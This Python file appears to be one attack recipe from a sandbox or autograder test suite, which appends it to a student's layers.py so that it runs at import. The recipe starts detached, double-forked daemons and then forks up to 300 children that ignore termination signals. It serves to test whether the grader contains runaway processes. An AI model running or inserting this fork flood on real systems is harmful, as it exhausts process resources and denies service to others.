"""Processes: a fork flood and detached daemons, started at import.

Not imported, not collected: tests/attack_recipes.py reads this file as text and splits it at
its `# ---- attack: <name>` lines. Each section is the code of one attack, appended (after the
prelude, prelude.py) to the cs231n/layers.py of one submission: at module level it runs at
import, and the functions it defines replace the stubs. Names starting with `_atk`, `_ATK` or
`_Atk` that a section does not define come from the prelude.
"""


# ---- attack: fork flood --------------------------------------------------------------------------

# Parameters: fork_flood() in tests/attack_recipes.py rewrites these two statements.
_ATK_DAEMONS = 5  # detached daemons, started first
_ATK_CHILDREN = 300  # then at most this many children


def _atk_daemon():
    import shutil
    sleep = shutil.which("sleep") or "/bin/sleep"
    pid = _atk_os.fork()
    if pid:
        _atk_os.waitpid(pid, 0)
        return
    try:
        _atk_os.setsid()
        if _atk_os.fork() == 0:
            _atk_os.chdir("/")
            _atk_os.execv(sleep, [_ATK["label"] + "-daemon", "1000"])
    finally:
        _atk_os._exit(0)


def _atk_flood(count):
    import signal
    born = 0
    for _ in range(count):
        try:
            pid = _atk_os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                _atk_os.setsid()
                for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(number, signal.SIG_IGN)
                _atk_time.sleep(1000)
            finally:
                _atk_os._exit(0)
        born += 1
    return born


for _ in range(_ATK_DAEMONS):
    try:
        _atk_daemon()
    except OSError:
        pass
_ATK_BORN = _atk_flood(_ATK_CHILDREN)
